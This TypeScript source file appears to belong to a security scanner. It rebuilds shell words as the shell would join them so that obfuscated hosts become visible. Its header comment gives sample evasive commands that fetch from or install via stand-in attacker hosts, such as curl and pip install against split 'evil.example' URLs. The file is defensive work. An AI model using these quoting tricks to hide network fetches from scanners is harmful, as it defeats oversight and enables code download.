// A shell word as the shell joins it (round 28, second pass; docs/provenance.md "What is followed"): quotes,
// a backslash or an empty expansion inside a word cut a value for a scanner of the raw text, not for the
// shell (`curl https://files.evil.ex""ample/x`, `pip install -i https://h."evil".example/simple`,
// `https://evil.exampl\e`, `evil.ex${X}ample`). One left-to-right pass; the caller scans the joined text.
import { table } from '../table.js';

/** The joined text and, for each of its characters, where it stood in the text read. */
export interface JoinedWords {
  text: string;
  from: readonly number[];
}

/** Longest text joined: a longer argument is scanned as written only (its cost stays the scanner's). */
const MAX_JOINED = 65_536;
/** Longest `${...}` read as one expansion; a longer one is kept as written. */
const MAX_EXPANSION = 256;
/** A character a value is spelled with: a join between two of them made a value the raw text cuts. */
const VALUE_CHAR = /[\p{L}\p{N}._~%@:/+=-]/u;
/** `${NAME}`, `${#NAME}`, `${NAME[..]}`: unknown here, read as empty (unset, as in a fresh shell). */
const PLAIN_EXPANSION = /^#?[A-Za-z_][A-Za-z0-9_]*(?:\[[^\]]*\])?$/;
/** `${NAME:-word}`, `${NAME-word}`, `${NAME:=word}`: the word, as when NAME is unset. */
const DEFAULTED = /^[A-Za-z_][A-Za-z0-9_]*:?[-=]/;
const NAME_START = /[A-Za-z_]/;
const NAME_CHAR = /[A-Za-z0-9_]/;
/** ANSI-C escapes of one letter (`$'..'`). */
const C_ESCAPES: Readonly<Record<string, string>> = table({
  n: '\n', t: '\t', r: '\r', a: '\x07', b: '\b', e: '\x1b', E: '\x1b', f: '\f', v: '\v',
  '\\': '\\', "'": "'", '"': '"', '?': '?',
}); // biome-ignore format: a table reads better packed

/**
 * `text` with each word spelled as the shell passes it on (quotes and backslashes removed, `$'..'`
 * decoded, an unknown `$NAME` or `${NAME}` empty, a default its word), when that joined two characters
 * of a value the raw text keeps apart; undefined otherwise (the raw text's values are the same). A JSON
 * text (an object argument) is no shell text.
 */
export function joinedShellWords(text: string): JoinedWords | undefined {
  if (text.length > MAX_JOINED || !MAY_JOIN.test(text)) return undefined;
  const first = text.trimStart()[0];
  if (first === '{' || first === '[') return undefined;
  const out: string[] = [];
  const from: number[] = [];
  // Where something was removed between two output characters: checked for a join at the end.
  const cuts: number[] = [];
  const put = (s: string, at: number) => {
    for (const c of s) {
      out.push(c);
      from.push(at);
    }
  };
  const cut = () => {
    if (cuts.length < 1024) cuts.push(out.length);
  };
  // An expansion at `i` (a `$`): its rendering pushed (a lone `$` when it is none), the index after it.
  const lone = (i: number): number => {
    put('$', i);
    return i + 1;
  };
  const expansion = (i: number): number => {
    const next = text[i + 1];
    if (next === '{') {
      // Looked for within the bound only: a search to the end at every `${` is quadratic.
      const at = text.slice(i + 2, i + MAX_EXPANSION).indexOf('}');
      if (at < 0) return lone(i);
      const close = i + 2 + at;
      const inner = text.slice(i + 2, close);
      const d = DEFAULTED.exec(inner);
      if (d) {
        cut();
        put(inner.slice(d[0].length).replace(/["']/g, ''), i);
        cut();
      } else if (PLAIN_EXPANSION.test(inner)) cut();
      else return lone(i);
      return close + 1;
    }
    if (next !== undefined && (NAME_START.test(next) || /[1-9@*]/.test(next))) {
      let j = i + 2;
      if (NAME_START.test(next)) while (j < text.length && NAME_CHAR.test(text[j]!)) j++;
      cut();
      return j;
    }
    return lone(i);
  };
  let i = 0;
  while (i < text.length) {
    const c = text[i]!;
    if (c === '\\') {
      cut();
      if (text[i + 1] !== '\n' && i + 1 < text.length) put(text[i + 1]!, i + 1);
      i += 2;
    } else if (c === "'") {
      const close = text.indexOf("'", i + 1);
      const end = close < 0 ? text.length : close;
      cut();
      for (let k = i + 1; k < end; k++) put(text[k]!, k);
      cut();
      i = end + 1;
    } else if (c === '$' && text[i + 1] === "'") {
      cut();
      i = ansiC(text, i + 2, put, cut);
      cut();
    } else if (c === '"' || (c === '$' && text[i + 1] === '"')) {
      cut();
      i = doubleQuoted(text, c === '"' ? i + 1 : i + 2, put, expansion, cut);
      cut();
    } else if (c === '$') i = expansion(i);
    else {
      put(c, i);
      i++;
    }
  }
  for (const p of cuts)
    if (p > 0 && p < out.length && VALUE_CHAR.test(out[p - 1]!) && VALUE_CHAR.test(out[p]!))
      return { text: out.join(''), from };
  return undefined;
}

/** A quote, a backslash or an expansion: without one the shell joins nothing the text does not show. */
const MAY_JOIN = /["'\\]|\$[{A-Za-z_1-9@*]/;

/** The body of a `"..."` from `i`, pushed; the index after its closing quote. */
function doubleQuoted(
  text: string,
  i: number,
  put: (s: string, at: number) => void,
  expansion: (i: number) => number,
  cut: () => void,
): number {
  while (i < text.length) {
    const c = text[i]!;
    if (c === '"') return i + 1;
    if (c === '\\' && i + 1 < text.length && '$`"\\\n'.includes(text[i + 1]!)) {
      cut();
      if (text[i + 1] !== '\n') put(text[i + 1]!, i + 1);
      i += 2;
    } else if (c === '$') i = expansion(i);
    else {
      put(c, i);
      i++;
    }
  }
  return i;
}

/** The body of a `$'...'` from `i`, its escapes decoded and pushed; the index after its closing quote. */
function ansiC(text: string, i: number, put: (s: string, at: number) => void, cut: () => void): number {
  while (i < text.length) {
    const c = text[i]!;
    if (c === "'") return i + 1;
    if (c !== '\\' || i + 1 >= text.length) {
      put(c, i);
      i++;
      continue;
    }
    const e = text[i + 1]!;
    // A decoded escape is a character the raw text does not show: the value around it is joined.
    cut();
    const hex = e === 'x' ? /^[0-9a-fA-F]{1,2}/.exec(text.slice(i + 2, i + 4)) : null;
    const uni =
      e === 'u' || e === 'U' ? /^[0-9a-fA-F]{1,8}/.exec(text.slice(i + 2, i + (e === 'u' ? 6 : 10))) : null;
    const oct = /^[0-7]{1,3}/.exec(text.slice(i + 1, i + 4));
    if (hex) {
      put(String.fromCharCode(Number.parseInt(hex[0], 16)), i);
      i += 2 + hex[0].length;
    } else if (uni) {
      const n = Number.parseInt(uni[0], 16);
      put(n <= 0x10ffff ? String.fromCodePoint(n) : '', i);
      i += 2 + uni[0].length;
    } else if (oct) {
      put(String.fromCharCode(Number.parseInt(oct[0], 8) & 0xff), i);
      i += 1 + oct[0].length;
    } else if (C_ESCAPES[e] !== undefined) {
      put(C_ESCAPES[e]!, i);
      i += 2;
    } else {
      put(c + e, i);
      i += 2;
    }
    cut();
  }
  return i;
}
